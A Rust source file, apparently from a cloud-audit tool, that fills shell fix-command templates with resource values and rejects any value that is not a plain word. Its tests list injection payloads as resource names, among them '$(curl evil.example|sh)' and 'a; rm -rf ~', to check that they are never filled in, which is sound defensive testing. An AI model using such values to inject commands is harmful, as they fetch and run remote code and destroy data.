//! The command of a fix, made out for one resource.

use crate::snapshot::{Resource, Value};

/// Fills `{resource.name}`, `{account.id}`, `{region.name}` and the like. Whoever reads the report will paste this into
/// a shell, and whoever named the resource knows that: a value that a shell or a program could read as more than a word
/// is left out, and its placeholder stays.
pub(super) fn fill(template: &str, resource: &Resource) -> String {
    let mut out = String::with_capacity(template.len());
    let mut rest = template;
    while let Some(start) = rest.find('{') {
        out.push_str(&rest[..start]);
        rest = &rest[start..];
        let filled = rest.find('}').and_then(|end| Some((end, value(&rest[1..end], resource)?)));
        let (end, text) = filled.map_or((0, "{".to_owned()), |(end, value)| (end, value));
        out.push_str(&text);
        rest = &rest[end + 1..];
    }
    out.push_str(rest);
    out
}

fn value(path: &str, resource: &Resource) -> Option<String> {
    let text = match path {
        "account.id" => resource.account.to_string(),
        "region.name" => resource.region.to_string(),
        path => common(path.strip_prefix("resource.")?, resource)?,
    };
    is_a_word(&text).then_some(text)
}

fn common(path: &str, resource: &Resource) -> Option<String> {
    match path {
        "id" => Some(resource.id.to_string()),
        "arn" => resource.arn().map(str::to_owned),
        "name" => resource.name.as_deref().map(str::to_owned),
        "account" => Some(resource.account.to_string()),
        "region" => Some(resource.region.to_string()),
        "kind" => Some(resource.kind.to_string()),
        path => match resource.at(path) {
            Value::Str(text) => Some(text.to_string()),
            Value::Int(n) => Some(n.to_string()),
            _ => None,
        },
    }
}

fn is_a_word(text: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-./:@=+,".contains(c);
    !text.is_empty() && !text.starts_with('-') && text.chars().all(plain)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bucket(name: &str) -> Resource {
        let line = serde_json::json!({"kind": "s3_bucket", "id": "arn:aws:s3:::b", "name": name,
            "account": "111122223333", "region": "eu-central-1", "tags": null, "versioning": {"status": "suspended"}});
        serde_json::from_value(line).unwrap()
    }

    #[test]
    fn placeholders_become_the_resource() {
        let template =
            "aws s3api x --bucket {resource.name} --account {account.id} '{\"a\": {resource.versioning.status}}'";
        let expected = "aws s3api x --bucket logs --account 111122223333 '{\"a\": suspended}'";
        assert_eq!(fill(template, &bucket("logs")), expected);
    }

    #[test]
    fn a_name_that_a_shell_would_run_is_never_filled_in() {
        for name in ["$(curl evil.example|sh)", "a; rm -rf ~", "'", "--endpoint-url", "a b", "\u{1b}[2J"] {
            assert_eq!(fill("x {resource.name}", &bucket(name)), "x {resource.name}");
        }
    }

    #[test]
    fn unknown_placeholders_and_open_braces_stay() {
        assert_eq!(fill("a {b} {resource.missing} {", &bucket("n")), "a {b} {resource.missing} {");
    }
}
